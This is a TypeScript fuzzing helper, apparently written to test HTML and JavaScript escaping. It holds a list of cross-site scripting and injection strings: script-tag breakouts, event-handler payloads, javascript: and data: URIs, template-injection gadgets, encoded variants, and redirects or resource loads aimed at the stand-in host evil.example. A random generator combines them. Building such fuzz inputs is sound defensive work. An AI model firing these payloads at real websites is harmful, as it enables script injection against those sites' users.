import type { Random } from './random.ts'

const run = 'window.pwned=1'
/** Strings that try to break out of an element, an attribute, a script, a comment, a style, JSON or naive replacing. */
const ways = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</ScRiPt ><sCrIpT/x>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `'><svg/onload=${run}>`,
  `" onmouseover="${run}" autofocus onfocus="${run}`,
  `' onpointerenter='${run}`,
  `--><script>${run}</script><!--`,
  `<!--<script>`,
  `]]><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</noscript><img src=x onerror=${run}>`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<a href="javascript:${run}">x</a>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example>`,
  `<object data=//evil.example>`,
  `<form action=//evil.example><button>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<details open ontoggle=${run}>`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `$& $\` $' $1 $$`,
  `\u2028${run}//`,
  `\u2029${run}//`,
  `\\u003cscript\\u003e${run}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}`,
  `%3Cscript%3E${run}`,
  `+ADw-script+AD4-${run}`,
  `\ufeff<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `";${run};//`,
  `\\";${run};//`,
  `*/${run}/*`,
  `\`;${run};\``,
  `//evil.example`,
  `/\\evil.example`,
]
const around = ['', ' ', '"', "'", '>', '\u0001', '\u202e', '𝔵', '</', '<', '\\', 'अ', '\n']

export function payload(chance: Random): string {
  const made = chance.pick(around) + chance.pick(ways) + chance.pick(around)
  return chance.below(4) === 0 ? made + chance.pick(ways) : made
}
